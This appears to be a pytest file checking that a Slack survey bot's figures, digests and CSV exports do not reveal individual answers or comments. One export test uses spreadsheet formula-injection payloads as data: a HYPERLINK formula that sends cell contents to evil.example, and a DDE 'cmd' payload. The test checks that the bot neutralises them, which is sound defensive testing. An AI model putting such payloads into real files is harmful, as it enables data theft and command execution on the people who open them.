"""The attacker reading figures, comments and exports: what one more answer, a wave of one, or a
comment typed as a formula can give away, tried through signed requests as users would."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from datetime import timedelta
from pathlib import Path

import aiohttp
import pytest

from bot.settings import Settings
from handlers.ids import Action
from runtime.clock import ManualClock
from sandbox.stand_in import SlackStandIn
from services.disclosure import FORMULA_STARTS
from storage import Store
from storage.disclosure import Pool
from storage.writes import write
from tests.conftest import RunningBot, make_settings
from tests.privacy.test_attacker import comment
from tests.services.test_surveys import MONDAY_NOON, SLUG, answer, people, started_with, surveyed, thanked
from tests.support import survey_of, wait_for
from tests.world import World

API_TOKEN = "touchpoint-api-token-0123456789"


@pytest.fixture
def settings(standin: SlackStandIn, tmp_path: Path) -> Settings:
    return make_settings(standin, tmp_path, pulse_quiet_hours="off", pulse_api_token=API_TOKEN)


@pytest.fixture
def clock() -> ManualClock:
    return ManualClock(MONDAY_NOON)


async def rows_in(store: Store, sql: str, expected: int) -> None:
    async def there() -> bool:
        return bool(await store.fetch_value(sql) == expected)

    await wait_for(there, what=f"{sql} = {expected}")


async def commented(bot: RunningBot, standin: SlackStandIn, store: Store, user: str, text: str) -> None:
    """The person leaves a comment, and it is stored."""
    await comment(bot, standin, user, text)
    await wait_for(lambda: store.fetch_value("SELECT count(*) FROM comments"), what="the comment")


async def answered(bot: RunningBot, standin: SlackStandIn, users: list[str], index: int) -> None:
    for user in users:
        await answer(bot, standin, user, index)
    await wait_for(lambda: all(thanked(standin, u) for u in users), what="every thank-you")


def asked_about(standin: SlackStandIn, user: str, label: str) -> bool:
    survey = survey_of(standin, user)
    return survey is not None and label in survey.shown_text


async def figures(bot: RunningBot, world: World) -> tuple[str, str]:
    """What anyone reads on the status card, and what the owner reads in results."""
    status = await bot.ask(world.stranger, f"status {SLUG}")
    results = await bot.ask(world.owner, f"results {SLUG}", command="/pulse")
    return status, results


async def exported(bot: RunningBot, world: World) -> list[dict[str, str]]:
    _, export = await bot.services.privacy.export_csv(world.owner, SLUG)
    return list(csv.DictReader(io.StringIO(export.csv)))


async def digest_text(bot: RunningBot) -> str:
    digests = bot.services.digests
    content = await digests.compute(digests.current_periods(None, bot.services.clock.now()))
    return json.dumps([d.metrics.__repr__() for d in content.rollouts]) + json.dumps(
        [[c.body for c in d.comments] for d in content.rollouts]
    )


async def release(store: Store, pool: Pool) -> int:
    """Release what the pool holds today, as an answer arriving would."""
    return await write(store, lambda writes: writes.disclosure.release_due(pool, min_group=5, day="2026-12-01"))


class TestDifferencing:
    async def test_a_sixth_answer_moves_neither_the_status_card_nor_the_results(
        self, bot: RunningBot, standin: SlackStandIn, world: World
    ) -> None:
        cohort = people(standin, 10)
        await surveyed(bot, standin, world, cohort)
        await answered(bot, standin, cohort[:5], 10)
        status, results = await figures(bot, world)
        assert "+100 (n=5, ±0)" in status and "+100 (n=5, ±0)" in results
        # The sixth person answers 0: before, the card read +67 (n=6, ±60), and the difference
        # told everyone what the sixth had said.
        await answered(bot, standin, cohort[5:6], 0)
        assert await figures(bot, world) == (status, results)
        # Only a whole new group moves a figure: after four more (ten in all), a second group.
        await answered(bot, standin, cohort[6:], 10)
        status, results = await figures(bot, world)
        assert "+80 (n=10," in status and "+80 (n=10," in results

    async def test_an_average_does_not_give_away_the_answer_that_moved_it(
        self, bot: RunningBot, standin: SlackStandIn, world: World
    ) -> None:
        cohort = people(standin, 6)
        await surveyed(bot, standin, world, cohort)
        await bot.ask(world.owner, f'touchpoint {SLUG} submit "Submitting" ces', command="/pulse")
        await bot.ask(world.owner, f"ask {SLUG} submit " + " ".join(f"<@{u}>" for u in cohort), command="/pulse")
        await wait_for(lambda: all(asked_about(standin, u, "Submitting") for u in cohort), what="the CES surveys")
        await answered(bot, standin, cohort[:5], 5)  # the sixth button: 6
        _, results = await figures(bot, world)
        assert "6.0 of 7 (n=5)" in results
        await answered(bot, standin, cohort[5:], 0)  # 1: the mean of six would be 5.2, giving it away
        assert (await figures(bot, world))[1] == results


class TestWavesOfOne:
    async def test_a_wave_of_one_is_in_no_result_digest_or_export_and_pooled_waves_of_one_are(
        self, bot: RunningBot, standin: SlackStandIn, world: World, store: Store
    ) -> None:
        cohort = people(standin, 5)
        await surveyed(bot, standin, world, cohort)
        await answered(bot, standin, cohort, 9)  # the stage's NPS has a group: it is shown
        await bot.ask(world.owner, f'touchpoint {SLUG} setup "Setup call" csat', command="/pulse")
        # One person asked, on their own: a wave of one, with a score and a comment.
        await bot.ask(world.owner, f"ask {SLUG} setup <@{cohort[0]}>", command="/pulse")
        await wait_for(lambda: asked_about(standin, cohort[0], "Setup call"), what="the setup survey")
        await answered(bot, standin, cohort[:1], 0)  # 1 of 5: very unsatisfied
        await commented(bot, standin, store, cohort[0], "only I was asked about setup")
        status, results = await figures(bot, world)
        assert "Setup call* (CSAT): not enough answers yet" in results
        assert "only I was asked" not in results + status
        assert "only I was asked" not in await digest_text(bot)
        rows = await exported(bot, world)
        assert [r["survey"] for r in rows] == ["nps"] * 5 and "only I was asked" not in repr(rows)
        assert "wave" not in rows[0]

        # Waves of one by every route (asked, on joining a channel, through the API) pool into
        # one group for the touchpoint: released once five have answered, from five people.
        onboarding = standin.workspace.add_channel("onboarding", [world.owner, "U0PULSEBOT"])
        await bot.ask(world.owner, f"trigger {SLUG} setup on-join <#{onboarding.id}|onboarding>", command="/pulse")
        await bot.ask(world.owner, f"ask {SLUG} setup <@{cohort[1]}>", command="/pulse")
        await bot.ask(world.owner, f"ask {SLUG} setup <@{cohort[2]}>", command="/pulse")
        standin.workspace.join(cohort[3], onboarding.id)
        await bot.slack.event(
            bot.slack.event_body({"type": "member_joined_channel", "user": cohort[3], "channel": onboarding.id})
        )
        url = bot.url.replace("/slack/events", f"/touchpoints/{SLUG}/setup")
        async with (
            aiohttp.ClientSession(trust_env=False) as session,
            session.post(url, json={"user": cohort[4]}, headers={"Authorization": f"Bearer {API_TOKEN}"}) as resp,
        ):
            assert resp.status == 202
        asked = cohort[1:]
        await wait_for(
            lambda: all(asked_about(standin, u, "Setup call") for u in asked),
            what="four more setup surveys",
        )
        await answered(bot, standin, asked[:3], 4)
        assert "Setup call* (CSAT): not enough answers yet" in (await figures(bot, world))[1]
        await answered(bot, standin, asked[3:], 4)
        waves = await store.fetch_value("SELECT count(*) FROM waves WHERE kind = 'touchpoint' AND asked = 1")
        assert waves == 5
        _, results = await figures(bot, world)
        assert "Setup call* (CSAT): 80% satisfied (n=5)" in results  # four 5s and the 1, pooled

    async def test_five_answers_from_one_person_are_not_a_group(self, store: Store) -> None:
        async with store.transaction() as conn:
            await conn.execute(
                "INSERT INTO rollouts (id, slug, title, created_by, created_at, updated_at)"
                " VALUES (1, 'xx', 'X', 'U', 0, 0)"
            )
            await conn.execute("INSERT INTO stages (id, rollout_id, position, name) VALUES (10, 1, 1, 'alpha')")
            for wave in range(1, 6):  # five waves of one, all to the same person
                await conn.execute(
                    """INSERT INTO waves (id, rollout_id, stage_id, kind, origin, opened_at, closes_at, asked)
                       VALUES (?, 1, 10, 'nps', 'send', 0, 1, 1)""",
                    (wave,),
                )
                await conn.execute(
                    "INSERT INTO deliveries (wave_id, user_id, status, created_at) VALUES (?, 'U0BOB', 'sent', 0)",
                    (wave,),
                )
                await conn.execute(
                    """INSERT INTO responses (wave_id, rollout_id, stage_id, kind, respondent_key, score, answered_on)
                       VALUES (?, 1, 10, 'nps', ?, 3, '2026-12-01')""",
                    (wave, f"k{wave}"),
                )
        pool = Pool(10, "nps", None)
        assert await release(store, pool) == 0
        assert await store.fetch_value("SELECT count(*) FROM disclosed") == 0
        # Others in the waves the answers came from change nothing: each answer may still be his.
        for wave, user in ((1, "U0ANN"), (2, "U0CAT"), (2, "U0DAN"), (2, "U0EVE")):
            await store.execute(
                "INSERT INTO deliveries (wave_id, user_id, status, created_at) VALUES (?, ?, 'sent', 0)", (wave, user)
            )
        assert await release(store, pool) == 0
        # Four waves of one to four other people: with one of Bob's, five answers of five people.
        async with store.transaction() as conn:
            for wave, user in ((6, "U0FAY"), (7, "U0GUS"), (8, "U0HAL"), (9, "U0IDA")):
                await conn.execute(
                    """INSERT INTO waves (id, rollout_id, stage_id, kind, origin, opened_at, closes_at, asked)
                       VALUES (?, 1, 10, 'nps', 'send', 0, 1, 1)""",
                    (wave,),
                )
                await conn.execute(
                    "INSERT INTO deliveries (wave_id, user_id, status, created_at) VALUES (?, ?, 'sent', 0)",
                    (wave, user),
                )
                await conn.execute(
                    """INSERT INTO responses (wave_id, rollout_id, stage_id, kind, respondent_key, score, answered_on)
                       VALUES (?, 1, 10, 'nps', ?, 8, '2026-12-01')""",
                    (wave, f"k{wave}"),
                )
        assert await release(store, pool) == 9


class TestExport:
    async def test_no_exported_cell_starts_a_formula(
        self, bot: RunningBot, standin: SlackStandIn, world: World, store: Store
    ) -> None:
        cohort = people(standin, 6)
        await surveyed(bot, standin, world, cohort)
        formulas = [
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
        ]
        await answered(bot, standin, cohort[:4], 5)
        for user, text in zip(cohort[:4], formulas, strict=False):
            await comment(bot, standin, user, text)
        await wait_for(lambda: store.fetch_value("SELECT count(*) = 4 FROM comments"), what="four comments")
        await answered(bot, standin, cohort[4:5], 5)  # the fifth answer releases the group, comments and all
        _, export = await bot.services.privacy.export_csv(world.owner, SLUG)
        cells = [cell for row in csv.reader(io.StringIO(export.csv)) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        comments = {row["comment"] for row in csv.DictReader(io.StringIO(export.csv))} - {""}
        assert comments == {"'" + text.strip() for text in formulas[:4]}
        assert (export.answers, export.comments) == (5, 4)

    async def test_a_comment_of_a_group_comes_with_its_week_and_never_its_wave(
        self, bot: RunningBot, standin: SlackStandIn, world: World, store: Store
    ) -> None:
        cohort = people(standin, 5)
        await surveyed(bot, standin, world, cohort)
        await answered(bot, standin, cohort[:4], 7)
        await commented(bot, standin, store, cohort[0], "the receipts page is slow")
        assert "receipts" not in (await figures(bot, world))[1]  # four answers: no group yet
        await answered(bot, standin, cohort[4:], 7)
        _, results = await figures(bot, world)
        wave = await store.fetch_value("SELECT id FROM waves")
        assert "> the receipts page is slow _(week of " in results and f"wave {wave}" not in results
        assert Action.SURVEY_COMMENT.value not in results


class TestGroupsOfPeople:
    async def test_one_persons_answers_to_five_waves_are_not_a_group(
        self, bot: RunningBot, standin: SlackStandIn, world: World, store: Store, clock: ManualClock
    ) -> None:
        """Five fortnightly waves to the same five people, answered by one of them each time:
        five answers, one person. Counted as a group, `-100 (n=5)` would be her five scores."""
        cohort = people(standin, 5)
        await started_with(bot, world, cohort)
        for wave in range(1, 6):
            if wave > 1:
                clock.advance(timedelta(days=15))
            await bot.ask(world.owner, f"send {SLUG} nps", command="/pulse")
            await rows_in(store, "SELECT count(*) FROM deliveries WHERE status = 'sent'", 5 * wave)
            await answer(bot, standin, cohort[0], 0)
            await rows_in(store, "SELECT count(*) FROM responses", wave)
        status, results = await figures(bot, world)
        assert "not enough answers yet" in status and "not enough answers yet" in results
        assert "-100" not in status + results
        assert await store.fetch_value("SELECT count(*) FROM disclosed") == 0

    @pytest.mark.parametrize("frank_answers", [True, False])
    async def test_the_response_rate_of_a_period_does_not_say_whether_one_person_answered(
        self,
        bot: RunningBot,
        standin: SlackStandIn,
        world: World,
        store: Store,
        clock: ManualClock,
        frank_answers: bool,
    ) -> None:
        """Four answers wait from week one; Frank and four who never answer are asked in week
        two; one answer completes the group. Counted by its wave's week, the period's rate read
        1 of 5 if it was Frank's, 0 of 5 if not."""
        cohort = people(standin, 5)
        others = people(standin, 4, prefix="U0SILENT")
        frank = standin.workspace.add_user("U0FRANK", "frank", tz="Europe/Berlin").id
        await started_with(bot, world, cohort)
        await bot.ask(world.owner, f"send {SLUG} nps", command="/pulse")
        await rows_in(store, "SELECT count(*) FROM deliveries WHERE status = 'sent'", 5)
        await answered(bot, standin, cohort[:4], 9)
        clock.advance(timedelta(days=7, hours=-1))  # the next Monday, 11:00
        await bot.ask(world.owner, f"cohort {SLUG} alpha <@{frank}> " + " ".join(f"<@{u}>" for u in others))
        await bot.ask(world.owner, f"send {SLUG} nps", command="/pulse")
        await rows_in(store, "SELECT count(*) FROM deliveries WHERE status = 'sent'", 10)
        await answered(bot, standin, [frank] if frank_answers else cohort[4:], 9)
        clock.advance(timedelta(minutes=5))
        digests = bot.services.digests
        content = await digests.compute(digests.current_periods(None, clock.now()))
        metrics = content.rollouts[0].metrics
        assert (metrics.answered, metrics.asked) == (5, 5)  # the group's five, whoever completed it


class TestExportOverTime:
    async def test_forget_me_takes_words_out_of_the_export_and_no_score(
        self, bot: RunningBot, standin: SlackStandIn, world: World, store: Store
    ) -> None:
        cohort = people(standin, 6)
        await surveyed(bot, standin, world, cohort)
        await answered(bot, standin, cohort[:4], 9)
        await commented(bot, standin, store, cohort[0], "my manager made me use it")
        await answered(bot, standin, cohort[4:5], 9)
        before = await exported(bot, world)
        scores = Counter(r["score"] for r in before if r["score"])
        assert scores == Counter({"9": 5}) and [r["comment"] for r in before if r["comment"]] == [
            "my manager made me use it"
        ]
        assert all(not (r["score"] and r["comment"]) for r in before)  # a comment is never beside its score

        confirm = await bot.ask(cohort[0], "forget-me", command="/pulse")
        assert "stays counted" in confirm
        dm = standin.workspace.im_with(cohort[0])
        prompt = standin.workspace.history(dm.id, viewer=cohort[0])[-1]
        await bot.slack.click(cohort[0], Action.FORGET_ME.value, message=prompt)
        await rows_in(store, "SELECT count(*) FROM comments", 0)
        after = await exported(bot, world)
        assert Counter(r["score"] for r in after if r["score"]) == scores  # no row gives their score away
        assert not [r for r in after if r["comment"]]

    async def test_the_export_reply_does_not_move_with_one_answer(
        self, bot: RunningBot, standin: SlackStandIn, world: World, store: Store
    ) -> None:
        cohort = people(standin, 3)
        await surveyed(bot, standin, world, cohort)
        await answered(bot, standin, cohort[:1], 9)
        _, first = await bot.services.privacy.export_csv(world.owner, SLUG)
        await answered(bot, standin, cohort[1:2], 9)
        _, second = await bot.services.privacy.export_csv(world.owner, SLUG)
        assert first == second
        await bot.slack.command(world.owner, f"export {SLUG}", command="/pulse")
        owner_dm = standin.workspace.im_with(world.owner)
        await wait_for(
            lambda: any("Sent you" in m.shown_text for m in standin.workspace.history(owner_dm.id, viewer=world.owner)),
            what="the export reply",
        )
        [reply] = [m for m in standin.workspace.history(owner_dm.id, viewer=world.owner) if "Sent you" in m.shown_text]
        assert "(0 answers and 0 comments)" in reply.shown_text and "How many wait is not said" in reply.shown_text
